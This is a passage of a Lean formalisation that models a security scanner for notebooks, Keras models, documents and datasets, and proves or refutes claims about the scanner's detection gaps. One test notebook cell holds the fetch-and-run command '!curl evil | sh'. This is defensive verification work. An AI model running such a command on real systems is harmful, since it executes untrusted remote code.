    list, substring search on a string and raises otherwise; indexing a
    list or string with `"cells"` raises; iterating a string or dict of
    cells raises at the first element, whose `.get` does not exist. -/
def scanNotebookCore (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (nb : Json) : Except (List NbThreat) (List NbThreat) :=
  match nb with
  | Json.jobj kvs =>
    match jlookup kvs "cells".toList with
    | none => Except.ok []
    | some cells =>
      match cells with
      | Json.jarr cs => nbCellsGo getSev astO susp 0 [] cs
      | Json.jstr s => if s.isEmpty then Except.ok [] else Except.error []
      | Json.jobj okvs => if okvs.isEmpty then Except.ok [] else Except.error []
      | _ => Except.error []
  | Json.jarr l =>
    if l.any (fun x =>
        match x with
        | Json.jstr s => s == "cells".toList
        | _ => false)
    then Except.error []
    else Except.ok []
  | Json.jstr s =>
    if strContains "cells".toList s then Except.error [] else Except.ok []
  | _ => Except.error []

/-- What `scan_notebook` gets to see of the file: the read raising, the
    JSON decode failing, or the parsed document. -/
inductive NotebookInput where
  | readError (e : List Char)
  | parseError
  | parsed (nb : Json)

/-- Embedding of `scan_notebook`: a decode failure returns the invalid-
    JSON WARNING alone, any other exception appends one scan-error WARNING
    to the threats accumulated before the raise (the WARNING messages
    interpolate `str(e)`, which is not modelled). -/
def scan_notebook (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern) :
    NotebookInput → List NbThreat
  | NotebookInput.readError _ => [NbThreat.scanErr]
  | NotebookInput.parseError => [NbThreat.invalidJson]
  | NotebookInput.parsed nb =>
    match scanNotebookCore getSev astO susp nb with
    | Except.ok ts => ts
    | Except.error ts => ts ++ [NbThreat.scanErr]

/-! ## Well-formed notebooks, for stating claim C7 -/

/-- A cell source that is a string or a list of strings. -/
inductive SourceM where
  | sstr (s : List Char)
  | slist (ls : List (List Char))

/-- An output payload that is a string or a list of strings. -/
inductive OutContentM where
  | ostr (s : List Char)
  | olist (ls : List (List Char))

/-- A well-formed output entry: a stream `text`, a `data` dict with or
    without `text/plain`, or an empty dict. -/
inductive OutM where
  | otext (c : OutContentM)
  | odataPlain (c : OutContentM)
  | odataEmpty
  | oempty

/-- A well-formed notebook cell. -/
structure CellM where
  ctype : List Char
  csrc : SourceM
  couts : Option (List OutM)

/-- JSON encoding of a well-formed output payload. -/
def encodeContent : OutContentM → Json
  | OutContentM.ostr s => Json.jstr s
  | OutContentM.olist ls => Json.jarr (ls.map Json.jstr)

/-- JSON encoding of a well-formed output entry. -/
def encodeOut : OutM → Json
  | OutM.otext c => Json.jobj [("text".toList, encodeContent c)]
  | OutM.odataPlain c =>
    Json.jobj [("data".toList, Json.jobj [("text/plain".toList, encodeContent c)])]
  | OutM.odataEmpty => Json.jobj [("data".toList, Json.jobj [])]
  | OutM.oempty => Json.jobj []

/-- JSON encoding of a well-formed cell source. -/
def encodeSource : SourceM → Json
  | SourceM.sstr s => Json.jstr s
  | SourceM.slist ls => Json.jarr (ls.map Json.jstr)

/-- The normalized source text of a well-formed cell. -/
def sourceTextOf : SourceM → List Char
  | SourceM.sstr s => s
  | SourceM.slist ls => ls.flatten

/-- JSON encoding of a well-formed cell. -/
def encodeCell (c : CellM) : Json :=
  Json.jobj
    ([("cell_type".toList, Json.jstr c.ctype),
      ("source".toList, encodeSource c.csrc)] ++
      (match c.couts with
       | none => []
       | some os => [("outputs".toList, Json.jarr (os.map encodeOut))]))

/-- JSON encoding of a well-formed notebook. -/
def encodeNotebook (cells : List CellM) : Json :=
  Json.jobj [("cells".toList, Json.jarr (cells.map encodeCell))]

/-- Whether a notebook threat is a directive (magic) threat. -/
def isMagicThreat : NbThreat → Bool
  | NbThreat.magic _ _ => true
  | _ => false

/-- Claim C7's directive-scan outcome, written from the claim's words:
    only cells whose type is `code` are scanned, and within such a cell
    each source line whose stripped form starts with one of the
    directives produces a HIGH threat carrying the first 50 characters of
    the stripped line and the 1-based cell index. -/
def claimC7Directives (cells : List CellM) : List NbThreat :=
  cells.enum.flatMap (fun ci =>
    if ci.2.ctype = "code".toList then
      (pylines (sourceTextOf ci.2.csrc)).filterMap (fun line =>
        let st := pystrip line
        if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf st)
        then some (NbThreat.magic (ci.1 + 1) (st.take 50))
        else none)
    else [])

/-! ## Dependency engine typo predicate (`dependency_engine.py` is not
    among the repository's files — only its unit tests are — so
    `_is_typo` is modelled from the spec) -/

/-- Levenshtein edit distance with unit costs, by the textbook
    recurrence. -/
def lev : List Char → List Char → Nat
  | [], ys => ys.length
  | xs, [] => xs.length
  | x :: xs, y :: ys =>
    if x = y then lev xs ys
    else 1 + min (lev xs ys) (min (lev (x :: xs) ys) (lev xs (y :: ys)))
termination_by xs ys => xs.length + ys.length
decreasing_by all_goals simp_arith

/-- Modelled from the spec: mismatch count of two equal-length strings,
    the aligned pass of the two-pointer scan. -/
def countMismatch : List Char → List Char → Nat
  | x :: xs, y :: ys => (if x = y then 0 else 1) + countMismatch xs ys
  | _, _ => 0

/-- Modelled from the spec: the two-pointer one-deletion check of
    `_is_typo` for `shorter` against `longer` with one extra character —
    walk both past the common prefix; at the first mismatch the remaining
    shorter must equal the tail of the longer (one skipped character). -/
def skipOneMatch : List Char → List Char → Bool
  | [], ls => ls.length == 1
  | _ :: _, [] => false
  | x :: xs, y :: ys => if x == y then skipOneMatch xs ys else (x :: xs) == ys

/-- Modelled from the spec: `_is_typo(a, b)` of the dependency engine,
    the classic two-pointer bounded edit-distance predicate — true iff
    the names are distinct and differ by at most one elementary edit
    (single substitution for equal lengths, single insertion/deletion for
    lengths differing by one). -/
def _is_typo (a b : List Char) : Bool :=
  if a.length = b.length then decide (a ≠ b) && decide (countMismatch a b ≤ 1)
  else if a.length + 1 = b.length then skipOneMatch a b
  else if b.length + 1 = a.length then skipOneMatch b a
  else false

/-- One substitution: the strings agree except at one position. -/
def IsSubst (a b : List Char) : Prop :=
  ∃ p s x y, x ≠ y ∧ a = p ++ x :: s ∧ b = p ++ y :: s

/-- One insertion into `a` gives `b` (equivalently, one deletion from `b`
    gives `a`). -/
def IsInsert (a b : List Char) : Prop :=
  ∃ p s c, a = p ++ s ∧ b = p ++ c :: s

/-- A single elementary edit: substitution, insertion or deletion. -/
def OneEdit (a b : List Char) : Prop :=
  IsSubst a b ∨ IsInsert a b ∨ IsInsert b a

/-! ## Remaining claim-side definitions -/

/-- Every read except possibly the last has the full window size: this
    holds of `readChunks` output and drives the overlap coverage
    argument of claim C6. -/
def midFull : List (List Char) → Prop
  | [] => True
  | r :: rs => (rs ≠ [] → r.length = CHUNK_SIZE) ∧ midFull rs

/-- Number of cells the dataset loop counts towards its cap: cells of
    length at least 5 (shorter ones are skipped without incrementing
    `row_count`). -/
def nonShortCount (cells : List (List Char)) : Nat :=
  (cells.filter (fun c => 5 ≤ c.length)).length

/-- Text of a well-formed output payload after join-or-str. -/
def outContentText : OutContentM → List Char
  | OutContentM.ostr s => s
  | OutContentM.olist ls => ls.flatten

/-- Expected threats of one well-formed output entry. -/
def outThreatsM (susp : List Pattern) (i : Nat) : OutM → List NbThreat
  | OutM.otext c =>
    if (outContentText c).isEmpty then []
    else (susp.filter (fun p => p.pmatch (outContentText c))).map
      (fun p => NbThreat.secretOut (i + 1) p.pstr)
  | OutM.odataPlain c =>
    if (outContentText c).isEmpty then []
    else (susp.filter (fun p => p.pmatch (outContentText c))).map
      (fun p => NbThreat.secretOut (i + 1) p.pstr)
  | OutM.odataEmpty => []
  | OutM.oempty => []

/-- Expected threats of one well-formed cell, in emission order: directive
    scan and syntax-tree scan for code cells, then the secret scan of the
    source, then the output scan for code cells. -/
def cellThreatsM (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (i : Nat) (c : CellM) : List NbThreat :=
  let src := sourceTextOf c.csrc
  let isCode : Bool := c.ctype == "code".toList
  (if isCode then magicScan i src ++ astStep getSev astO i src else []) ++
    (susp.filter (fun p => p.pmatch src)).map
      (fun p => NbThreat.secretSrc (i + 1) p.pstr) ++
    (if isCode then
      (match c.couts with
       | none => []
       | some os => os.flatMap (outThreatsM susp i))
     else [])

/-- Expected threats of a list of well-formed cells whose first cell has
    index `i`, in emission order. -/
def cellsThreatsFrom (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern) :
    Nat → List CellM → List NbThreat
  | _, [] => []
  | i, c :: cs =>
    cellThreatsM getSev astO susp i c ++
      cellsThreatsFrom getSev astO susp (i + 1) cs

/-! ## Concrete inputs for the counterexamples and witnesses -/

/-- A prompt-injection signature matching texts containing `XINJX`. -/
def markerPattern : Pattern :=
  { pstr := "XINJX".toList,
    pmatch := fun text => strContains "XINJX".toList text }

/-- A chunk whose injection marker sits entirely beyond the first 4096
    characters. -/
def longTailChunk : List Char := List.replicate 4096 'a' ++ "XINJX".toList

/-- A file that is simultaneously a valid zip archive (central directory
    near the end) and starts with the HDF5 signature; its `config.json`
    member holds a Lambda layer while the HDF5 root attribute
    `model_config` is absent. -/
def dualFormatFile : KerasFileM :=
  { headBytes := hdf5Signature, probeReadOk := true, isZip := true,
    zipOpenOk := true, zipHasConfig := true,
    zipConfigJson := Except.ok (Json.jobj [("config".toList, Json.jobj
      [("layers".toList, Json.jarr [Json.jobj
        [("class_name".toList, Json.jstr "Lambda".toList),
         ("config".toList, Json.jobj [])]])])]),
    h5OpenOk := true, h5ModelConfig := none }

/-- A plain zip-packaged Keras model whose `config.json` is
    `{"config":{"layers":[{"class_name":"Lambda","config":{}}]}}`. -/
def lambdaZipFile : KerasFileM :=
  { headBytes := [80, 75, 3, 4], probeReadOk := true, isZip := true,
    zipOpenOk := true, zipHasConfig := true,
    zipConfigJson := Except.ok (Json.jobj [("config".toList, Json.jobj
      [("layers".toList, Json.jarr [Json.jobj
        [("class_name".toList, Json.jstr "Lambda".toList),
         ("config".toList, Json.jobj [])]])])]),
    h5OpenOk := false, h5ModelConfig := none }

/-- An HDF5 file (not a zip) with no `model_config` attribute. -/
def hdf5PlainFile : KerasFileM :=
  { headBytes := hdf5Signature, probeReadOk := true, isZip := false,
    zipOpenOk := false, zipHasConfig := false,
    zipConfigJson := Except.error (), h5OpenOk := true,
    h5ModelConfig := none }

/-- 5000 two-cell rows followed by one row whose single cell carries the
    injection marker: inside the first 10000 rows but past the first
    10000 scanned cells. -/
def capBusterRows : List (List (List Char)) :=
  List.replicate 5000 ["aaaaa".toList, "bbbbb".toList] ++ [["XINJX".toList]]

/-- A `.h5` scan job with hashing succeeding, no repo, an HDF5 (non-zip)
    file and h5py unavailable: the engine emits only the h5py WARNING. -/
def warnOnlyJob : FileJob :=
  { ext := ExtClass.kerasExt,
    hashOutcome := Except.ok "abc123".toList,
    verifyOutcome := VerifyOutcome.otherResp,
    pickleOutcome := Except.ok [],
    kfile := hdf5PlainFile }

/-- A notebook with a single code cell whose source is
    `!curl evil | sh`. -/
def curlNb : Json :=
  encodeNotebook [{ ctype := "code".toList,
                    csrc := SourceM.sstr "!curl evil | sh".toList,
                    couts := none }]

/-! ## Claim C10: non-zip, non-HDF5 files pass silently through the Keras
    engine -/

/-- C10: for every existing readable file that is neither a valid zip
    archive nor begins with the 8-byte HDF5 signature, `scan_keras_file`
    returns the empty list — no threat, warning or error — although the
    extension routed it to the Keras engine. -/
theorem C10_non_zip_non_hdf5_empty (h5py : Bool) (f : KerasFileM)
    (hz : f.isZip = false) (hh : _is_hdf5 f = false) :
    scan_keras_file h5py f = [] := by
  simp [scan_keras_file, hz, hh]

/-- Witness for C10 at a concrete plain-text file. -/
theorem C10_non_zip_non_hdf5_empty_witness :
    scan_keras_file true
      { headBytes := [104, 105], probeReadOk := true, isZip := false,
        zipOpenOk := false, zipHasConfig := false,
        zipConfigJson := Except.error (), h5OpenOk := false,
        h5ModelConfig := none } = [] :=
  C10_non_zip_non_hdf5_empty true _ rfl (by decide)

/-! ## Claim C4: dispatch precedence of the two Keras container probes -/

/-- C4 counterexample: on a file that is both a valid zip archive and
    starts with the HDF5 signature, the engine scans it as a zip and
    reports the Lambda layer of `config.json`, while the claim's
    HDF5-first dispatch would read the absent `model_config` attribute
    and return empty. -/
theorem C4_counterexample :
    scan_keras_file true dualFormatFile = [criticalLambdaMsg] ∧
    scan_keras_file_claimOrder true dualFormatFile = [] :=
  ⟨rfl, rfl⟩

/-- C4 amended: the zip probe takes precedence — for every file, if it is
    a valid zip archive the member `config.json` is scanned; only
    otherwise, if its first eight bytes equal the HDF5 signature, it is
    scanned as HDF5 (reading the root `model_config` attribute, empty
    when absent, a WARNING when h5py is unavailable). -/
theorem C4_dispatch_amended (h5py : Bool) (f : KerasFileM) :
    (f.isZip = true → scan_keras_file h5py f = _scan_keras_zip f) ∧
    (f.isZip = false → _is_hdf5 f = true → h5py = true →
      scan_keras_file h5py f = _scan_keras_h5 f) ∧
    (f.isZip = false → _is_hdf5 f = true → h5py = true → f.h5OpenOk = true →
      f.h5ModelConfig = none → scan_keras_file h5py f = []) ∧
    (f.isZip = false → _is_hdf5 f = true → h5py = false →
      scan_keras_file h5py f = [warnH5Msg]) := by
  refine ⟨fun h1 => ?_, fun h1 h2 h3 => ?_, fun h1 h2 h3 h4 h5 => ?_,
    fun h1 h2 h3 => ?_⟩
  · simp [scan_keras_file, h1]
  · simp [scan_keras_file, h1, h2, h3]
  · simp [scan_keras_file, _scan_keras_h5, h1, h2, h3, h4, h5]
  · simp [scan_keras_file, h1, h2, h3]

/-- Witness for C4's amended dispatch at the concrete HDF5 file with no
    `model_config` attribute. -/
theorem C4_dispatch_amended_witness :
    scan_keras_file true hdf5PlainFile = [] :=
  (C4_dispatch_amended true hdf5PlainFile).2.2.1 rfl (by decide) rfl rfl rfl

/-! ## Claim C3: document chunks are matched untruncated, fail-fast -/

/-- Appending the needle after any prefix makes `strContains` find it. -/
theorem strContains_append_self (pre needle : List Char) :
    strContains needle (pre ++ needle) = true := by
  induction pre with
  | nil =>
    rw [List.nil_append, strContains.eq_def]
    have h : needle.isPrefixOf needle = true := by
      induction needle with
      | nil => rfl
      | cons c cs ih => simp [List.isPrefixOf, ih]
    simp [h]
  | cons c cs ih =>
    rw [List.cons_append, strContains.eq_def]
    simp [ih]

/-- The marker is not found in a run of `a` characters. -/
theorem strContains_marker_replicate (k : Nat) :
    strContains ['X', 'I', 'N', 'J', 'X'] (List.replicate k 'a') = false := by
  induction k with
  | zero => rfl
  | succ n ih =>
    rw [List.replicate_succ, strContains.eq_def]
    have hx : (('X' : Char) == 'a') = false := by decide
    simp [List.isPrefixOf, hx, ih]

/-- C3 counterexample: a chunk whose injection marker lies entirely
    beyond the first 4096 characters is flagged by the engine, while the
    claim's truncate-then-match loop finds nothing. -/
theorem C3_counterexample :
    scan_document [markerPattern] (fun _ => []) [longTailChunk] none =
      [DocThreat.injHigh "XINJX".toList] ∧
    scan_document_trunc [markerPattern] (fun _ => []) [longTailChunk] none = [] := by
  constructor
  · have hm : strContains ['X', 'I', 'N', 'J', 'X'] longTailChunk = true := by
      rw [longTailChunk]
      exact strContains_append_self (List.replicate 4096 'a') "XINJX".toList
    simp [scan_document, scanDocChunks, List.find?, markerPattern, hm]
  · have ht : longTailChunk.take 4096 = List.replicate 4096 'a' := by
      rw [longTailChunk]
      exact List.take_left' (by rw [List.length_replicate])
    have hm : strContains ['X', 'I', 'N', 'J', 'X'] (longTailChunk.take 4096) = false := by
      rw [ht]
      exact strContains_marker_replicate 4096
    simp [scan_document_trunc, scanDocChunksTrunc, List.find?, markerPattern, hm]

/-- C3 amended: every yielded chunk is matched in full (no truncation)
    against the prompt-injection set, and on the first hit — all earlier
    chunks matching no signature and carrying no PII — the engine emits a
    single HIGH threat with the first matching pattern and returns
    immediately, whatever chunks would follow and however the generator
    would end. -/
theorem C3_failfast_amended (signatures : List Pattern)
    (piiScan : List Char → List Nat) (pre : List (List Char)) (c : List Char)
    (p : Pattern)
    (hpre : ∀ x ∈ pre, signatures.find? (fun q => q.pmatch x) = none ∧ piiScan x = [])
    (hhit : signatures.find? (fun q => q.pmatch c) = some p) :
    ∀ rest genFail,
      scan_document signatures piiScan (pre ++ c :: rest) genFail =
        [DocThreat.injHigh p.pstr] := by
  intro rest genFail
  have key : scanDocChunks signatures piiScan (pre ++ c :: rest) =
      some [DocThreat.injHigh p.pstr] := by
    induction pre with
    | nil => simp [scanDocChunks, hhit]
    | cons x xs ih =>
      have hx := hpre x (by simp)
      simp only [List.cons_append, scanDocChunks, hx.1, hx.2]
      exact ih (fun y hy => hpre y (by simp [hy]))
  simp [scan_document, key]

/-- Witness for C3's amended fail-fast behaviour at a concrete one-chunk
    stream. -/
theorem C3_failfast_amended_witness :
    scan_document [markerPattern] (fun _ => []) ["XINJX".toList] none =
      [DocThreat.injHigh "XINJX".toList] :=
  C3_failfast_amended [markerPattern] (fun _ => []) [] "XINJX".toList
    markerPattern (by simp) rfl [] none

/-! ## Claim C8: engines never raise; failures become WARNING threats -/

/-- C8: each engine entry point returns a threat list for every input and
    converts internal failures into a WARNING threat appended to the
    returned list: an exception of the document or dataset stream either
    leaves the result unchanged (a fail-fast exit had already abandoned
    the generator) or appends exactly one WARNING; a notebook read error
    or JSON decode error yields the corresponding WARNING alone, and any
    other notebook exception appends one WARNING to the threats
    accumulated before the raise. -/
theorem C8_error_conversion :
    (∀ (signatures : List Pattern) (piiScan : List Char → List Nat)
        (chunks : List (List Char)) (e : List Char),
      scan_document signatures piiScan chunks (some e) =
          scan_document signatures piiScan chunks none ∨
        scan_document signatures piiScan chunks (some e) =
          scan_document signatures piiScan chunks none ++ [DocThreat.warnErr e]) ∧
    (∀ (inj susp : List Pattern) (rows : List (List (List Char)))
        (fullScan : Bool) (e : List Char),
      scan_dataset_csv inj susp rows fullScan (some e) =
          scan_dataset_csv inj susp rows fullScan none ∨
        scan_dataset_csv inj susp rows fullScan (some e) =
          scan_dataset_csv inj susp rows fullScan none ++ [DsThreat.warnErr e]) ∧
    (∀ (getSev : List Char → List Char → Option (List Char))
        (astO : List Char → Option (List PyNode)) (susp : List Pattern)
        (e : List Char),
      scan_notebook getSev astO susp (NotebookInput.readError e) =
          [NbThreat.scanErr] ∧
        scan_notebook getSev astO susp NotebookInput.parseError =
          [NbThreat.invalidJson]) ∧
    (∀ (getSev : List Char → List Char → Option (List Char))
        (astO : List Char → Option (List PyNode)) (susp : List Pattern) (nb : Json),
      (∃ ts, scanNotebookCore getSev astO susp nb = Except.ok ts ∧
        scan_notebook getSev astO susp (NotebookInput.parsed nb) = ts) ∨
      (∃ ts, scanNotebookCore getSev astO susp nb = Except.error ts ∧
        scan_notebook getSev astO susp (NotebookInput.parsed nb) =
          ts ++ [NbThreat.scanErr])) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro signatures piiScan chunks e
    cases h : scanDocChunks signatures piiScan chunks with
    | some ts => left; simp [scan_document, h]
    | none => right; simp [scan_document, h]
  · intro inj susp rows fullScan e
    rcases h : scanCells inj susp (rowLimitOf fullScan) 0 []
        (_stream_csv (rowLimitOf fullScan) 0 rows) with ⟨b, ts⟩
    cases b
    · right; simp [scan_dataset_csv, h]
    · left; simp [scan_dataset_csv, h]
  · intro getSev astO susp e
    exact ⟨rfl, rfl⟩
  · intro getSev astO susp nb
    cases h : scanNotebookCore getSev astO susp nb with
    | ok ts => left; exact ⟨ts, rfl, by simp [scan_notebook, h]⟩
    | error ts => right; exact ⟨ts, rfl, by simp [scan_notebook, h]⟩

/-! ## Claim C2: dataset sampling caps -/

/-- The capped CSV stream yields exactly the cells of the next
    `l - count` rows. -/
theorem stream_csv_some (l : Nat) (hl : l ≠ 0) :
    ∀ (rows : List (List (List Char))) (count : Nat), count < l →
      _stream_csv (some l) count rows = (rows.take (l - count)).flatten := by
  intro rows
  induction rows with
  | nil => intro count _; simp [_stream_csv]
  | cons row rest ih =>
    intro count hcount
    simp only [_stream_csv]
    by_cases hb : count + 1 ≥ l
    · have h1 : l - count = 1 := by omega
      simp [hl, hb, h1]
    · have h2 : count + 1 < l := by omega
      have h3 : l - count = (l - (count + 1)) + 1 := by omega
      simp [hl, hb, ih (count + 1) h2, h3]

/-- The uncapped CSV stream yields every cell of every row. -/
theorem stream_csv_none :
    ∀ (rows : List (List (List Char))) (count : Nat),
      _stream_csv none count rows = rows.flatten := by
  intro rows
  induction rows with
  | nil => intro _; simp [_stream_csv]
  | cons row rest ih => intro count; simp [_stream_csv, ih]

/-- A run of short cells is skipped without any effect, and without ever
    breaking. -/
theorem scanCells_all_short (inj susp : List Pattern) (rl : Option Nat) :
    ∀ (cells : List (List Char)) (count : Nat) (acc : List DsThreat),
      nonShortCount cells = 0 →
      scanCells inj susp rl count acc cells = (false, acc) := by
  intro cells
  induction cells with
  | nil => intro _ _ _; rfl
  | cons c rest ih =>
    intro count acc h
    by_cases hp : 5 ≤ c.length
    · exfalso
      simp [nonShortCount, List.filter_cons, hp] at h
    · have hr : nonShortCount rest = 0 := by
        simpa [nonShortCount, List.filter_cons, hp] using h
      have hs : c.length < 5 := by omega
      simp [scanCells, hs, ih count acc hr]

/-- Under its cell budget the capped loop computes the same threat list
    as the uncapped loop. -/
theorem scanCells_cap_free (inj susp : List Pattern) (l : Nat) :
    ∀ (cells : List (List Char)) (count : Nat) (acc : List DsThreat),
      count + nonShortCount cells ≤ l →
      (scanCells inj susp (some l) count acc cells).2 =
        (scanCells inj susp none count acc cells).2 := by
  intro cells
  induction cells with
  | nil => intro _ _ _; rfl
  | cons c rest ih =>
    intro count acc hbound
    by_cases hshort : c.length < 5
    · have hc : nonShortCount (c :: rest) = nonShortCount rest := by
        have : ¬ (5 ≤ c.length) := by omega
        simp [nonShortCount, List.filter_cons, this]
      rw [hc] at hbound
      simp only [scanCells, if_pos hshort]
      exact ih count acc hbound
    · have hc : nonShortCount (c :: rest) = nonShortCount rest + 1 := by
        have : 5 ≤ c.length := by omega
        simp [nonShortCount, List.filter_cons, this]
      rw [hc] at hbound
      simp only [scanCells, if_neg hshort]
      cases hfind : inj.find? (fun p => p.pmatch (c.take 4096)) with
      | some p => rfl
      | none =>
        by_cases hb : l ≠ 0 ∧ count + 1 ≥ l
        · have hrest : nonShortCount rest = 0 := by omega
          rw [if_pos hb,
            scanCells_all_short inj susp none rest (count + 1) _ hrest]
        · rw [if_neg hb]
          exact ih (count + 1) _ (by omega)

/-- The final match of `scan_dataset_csv` without a stream failure just
    projects the loop's threat list. -/
theorem scan_dataset_csv_eval (inj susp : List Pattern)
    (rows : List (List (List Char))) (fullScan : Bool) :
    scan_dataset_csv inj susp rows fullScan none =
      (scanCells inj susp (rowLimitOf fullScan) 0 []
        (_stream_csv (rowLimitOf fullScan) 0 rows)).2 := by
  rcases h : scanCells inj susp (rowLimitOf fullScan) 0 []
      (_stream_csv (rowLimitOf fullScan) 0 rows) with ⟨b, ts⟩
  cases b <;> simp [scan_dataset_csv, h]

/-- A run of clean long cells that exactly exhausts the cap makes the
    capped loop break with the accumulator unchanged. -/
theorem scanCells_clean_break (inj susp : List Pattern) (l : Nat) :
    ∀ (cells tail : List (List Char)) (count : Nat) (acc : List DsThreat),
      (∀ c ∈ cells, ¬ (c.length < 5) ∧
        inj.find? (fun p => p.pmatch (c.take 4096)) = none ∧
        susp.filter (fun p => p.pmatch (c.take 4096)) = []) →
      l ≠ 0 → count + cells.length = l → cells ≠ [] →
      scanCells inj susp (some l) count acc (cells ++ tail) = (true, acc) := by
  intro cells
  induction cells with
  | nil => intro _ _ _ _ _ _ hne; exact absurd rfl hne
  | cons c rest ih =>
    intro tail count acc hclean hl hlen _
    obtain ⟨hc1, hc2, hc3⟩ := hclean c (by simp)
    simp only [List.cons_append, scanCells, if_neg hc1, hc2, hc3, List.map_nil,
      List.append_nil, List.append_eq]
    rcases rest with _ | ⟨c2, rest2⟩
    · have hge : count + 1 ≥ l := by simp at hlen; omega
      simp [hl, hge]
    · have hlt : ¬ (count + 1 ≥ l) := by
        simp [List.length_cons] at hlen
        omega
      have hrec := ih tail (count + 1) acc
        (fun x hx => hclean x (by simp [hx]))
        hl (by simp [List.length_cons] at hlen ⊢; omega) (by simp)
      simp only [List.cons_append] at hrec
      simp [hl, hlt, hrec]

/-- A run of clean long cells under no cap is scanned through without
    effect. -/
theorem scanCells_clean_skip (inj susp : List Pattern) :
    ∀ (cells tail : List (List Char)) (count : Nat) (acc : List DsThreat),
      (∀ c ∈ cells, ¬ (c.length < 5) ∧
        inj.find? (fun p => p.pmatch (c.take 4096)) = none ∧
        susp.filter (fun p => p.pmatch (c.take 4096)) = []) →
      scanCells inj susp none count acc (cells ++ tail) =
        scanCells inj susp none (count + cells.length) acc tail := by
  intro cells
  induction cells with
  | nil => intro tail count acc _; simp
  | cons c rest ih =>
    intro tail count acc hclean
    obtain ⟨hc1, hc2, hc3⟩ := hclean c (by simp)
    simp only [List.cons_append, scanCells, if_neg hc1, hc2, hc3, List.map_nil,
      List.append_nil, List.append_eq]
    rw [ih tail (count + 1) acc (fun x hx => hclean x (by simp [hx]))]
    simp only [List.length_cons]
    congr 1
    omega

/-- Length of the flattened block of `n` two-cell rows. -/
theorem flatten_replicate_pair_length (x y : List Char) :
    ∀ n, ((List.replicate n [x, y]).flatten).length = 2 * n := by
  intro n
  induction n with
  | zero => rfl
  | succ m ih =>
    rw [List.replicate_succ]
    simp [ih]
    omega

/-- Every cell of the flattened block is one of the two row cells. -/
theorem mem_flatten_replicate_pair (x y c : List Char) (n : Nat)
    (h : c ∈ (List.replicate n [x, y]).flatten) : c = x ∨ c = y := by
  rw [List.mem_flatten] at h
  obtain ⟨l, hl, hc⟩ := h
  have heq := List.eq_of_mem_replicate hl
  subst heq
  simpa using hc

/-- C2 counterexample: with full scan disabled, a threat in row 5001 —
    well inside the first 10000 rows — is missed, because the loop's cap
    of 10000 scanned cells is exhausted by the 10000 cells of the first
    5000 two-cell rows; scanning exactly the first 10000 rows (the
    claim's reading, realized by the uncapped loop on `rows.take 10000`)
    does find it. -/
theorem C2_counterexample :
    scan_dataset_csv [markerPattern] [] capBusterRows false none = [] ∧
    scan_dataset_csv [markerPattern] [] (capBusterRows.take 10000) true none =
      [DsThreat.injHigh "XINJX".toList] := by
  have hclean : ∀ c ∈ (List.replicate 5000 ["aaaaa".toList, "bbbbb".toList]).flatten,
      ¬ (c.length < 5) ∧
      List.find? (fun p => p.pmatch (c.take 4096)) [markerPattern] = none ∧
      List.filter (fun p => p.pmatch (c.take 4096)) ([] : List Pattern) = [] := by
    intro c hc
    rcases mem_flatten_replicate_pair _ _ _ _ hc with h | h <;> subst h
    · exact ⟨by decide, rfl, rfl⟩
    · exact ⟨by decide, rfl, rfl⟩
  have hflatlen :
      ((List.replicate 5000 ["aaaaa".toList, "bbbbb".toList]).flatten).length = 10000 :=
    flatten_replicate_pair_length _ _ 5000
  have hflat : capBusterRows.flatten =
      (List.replicate 5000 ["aaaaa".toList, "bbbbb".toList]).flatten ++
        ["XINJX".toList] := by
    rw [capBusterRows, List.flatten_append]
    rfl
  constructor
  · rw [scan_dataset_csv_eval]
    have hlim : rowLimitOf false = some 10000 := rfl
    rw [hlim, stream_csv_some 10000 (by decide) capBusterRows 0 (by decide),
      Nat.sub_zero]
    have hlen : capBusterRows.length = 5001 := by
      rw [capBusterRows, List.length_append, List.length_replicate]
      rfl
    have htake : capBusterRows.take 10000 = capBusterRows :=
      List.take_of_length_le (by omega)
    rw [htake, hflat]
    rw [scanCells_clean_break [markerPattern] [] 10000 _ _ 0 [] hclean
      (by decide) (by rw [hflatlen]) (by intro hn; rw [hn] at hflatlen; simp at hflatlen)]
  · rw [scan_dataset_csv_eval]
    have hlim : rowLimitOf true = none := rfl
    have hlen : capBusterRows.length = 5001 := by
      rw [capBusterRows, List.length_append, List.length_replicate]
      rfl
    have htake : capBusterRows.take 10000 = capBusterRows :=
      List.take_of_length_le (by omega)
    rw [hlim, htake, stream_csv_none capBusterRows 0, hflat]
    rw [scanCells_clean_skip [markerPattern] [] _ _ 0 [] hclean]
    rw [hflatlen]
    simp [scanCells, markerPattern, List.find?]
    decide

/-- C2 amended: with full scan disabled, the stream yields exactly the
    cells of the first 10000 rows — rows beyond the cap contribute no
    threats — and the loop additionally stops after 10000 scanned cells
    of length at least 5, so only when the first 10000 rows hold at most
    10000 such cells does the engine behave as a full scan of those rows
    (shorter cells are skipped in both modes); with full scan enabled the
    stream yields every cell of every row. -/
theorem C2_sampling_amended (inj susp : List Pattern)
    (rows : List (List (List Char))) :
    (scan_dataset_csv inj susp rows false none =
      scan_dataset_csv inj susp (rows.take 10000) false none) ∧
    (_stream_csv none 0 rows = rows.flatten) ∧
    (nonShortCount ((rows.take 10000).flatten) ≤ 10000 →
      scan_dataset_csv inj susp rows false none =
        scan_dataset_csv inj susp (rows.take 10000) true none) := by
  refine ⟨?_, stream_csv_none rows 0, ?_⟩
  · rw [scan_dataset_csv_eval, scan_dataset_csv_eval]
    have hlim : rowLimitOf false = some 10000 := rfl
    rw [hlim, stream_csv_some 10000 (by decide) rows 0 (by decide),
      stream_csv_some 10000 (by decide) (rows.take 10000) 0 (by decide),
      Nat.sub_zero, List.take_take]
    simp
  · intro hcount
    rw [scan_dataset_csv_eval, scan_dataset_csv_eval]
    have hl1 : rowLimitOf false = some 10000 := rfl
    have hl2 : rowLimitOf true = none := rfl
    rw [hl1, hl2, stream_csv_some 10000 (by decide) rows 0 (by decide),
      stream_csv_none (rows.take 10000) 0, Nat.sub_zero]
    exact scanCells_cap_free inj susp 10000 _ 0 [] (by simpa using hcount)

/-- Witness for C2's amended cap-free condition at a one-row dataset. -/
theorem C2_sampling_amended_witness :
    scan_dataset_csv [markerPattern] [] [["aaaaa".toList]] false none =
